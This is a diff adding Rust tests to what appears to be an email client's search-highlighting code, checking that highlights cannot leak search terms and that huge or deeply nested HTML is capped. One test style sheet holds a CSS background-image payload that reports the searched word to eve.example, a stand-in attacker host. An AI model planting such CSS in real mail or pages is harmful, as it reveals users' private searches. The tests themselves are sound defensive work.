@@ -121,12 +121,30 @@ fn places_that_make_no_sense_mark_nothing() {
 }
 
 #[test]
+fn no_sheet_learns_from_marks_what_was_searched_for() {
+    let tells = |sheet: &str| format!("<style>{sheet}</style><p id=w>merger<b>.</b></p>");
+    let loads = tells("#w mark + b { background-image: url(https://eve.example/merger) }");
+    let looks = tells("#w mark + b { color: #f00 }");
+    let found = |html: &str, remote_images| {
+        let find = |text: &str| text.match_indices("merger").map(|(at, word)| at..at + word.len()).collect();
+        let options = ReadOptions { remote_images, ..ReadOptions::default() };
+        let Body::Html { html, .. } = read_marked(&html_mail(html), options, &find).body else { panic!("no HTML") };
+        (html.contains(MARK), html.contains("eve.example"))
+    };
+    assert_eq!(found(&loads, true), (false, true));
+    assert_eq!(found(&loads, false), (true, false));
+    assert_eq!(found(&looks, true), (true, false));
+}
+
+#[test]
 fn no_more_is_marked_than_a_browser_bears() {
     let found = marked(&format!("<p>{}</p>", "x ".repeat(100_000)), &["x"]);
     assert_eq!(found.matches(MARK).count(), limits::MARKS);
-    // One word in a hundred thousand pieces.
-    let found = marked(&"<b>x</b>".repeat(60_000), &["x"]);
+    // One word in very many pieces.
+    let found = marked(&"<b>x</b>".repeat(20_000), &["x"]);
     assert_eq!(found.matches(MARK).count(), limits::MARKS);
+    // What is too large to be written once more is shown without.
+    assert!(!marked(&"<b>x</b>".repeat(60_000), &["x"]).contains(MARK));
     // What is as deep as can be is shown without.
     let deep = |depth| format!("{}x", "<div>".repeat(depth));
     let deepest = (1..300).rev().find(|depth| !sanitized(&deep(*depth)).is_empty()).expect("some depth");
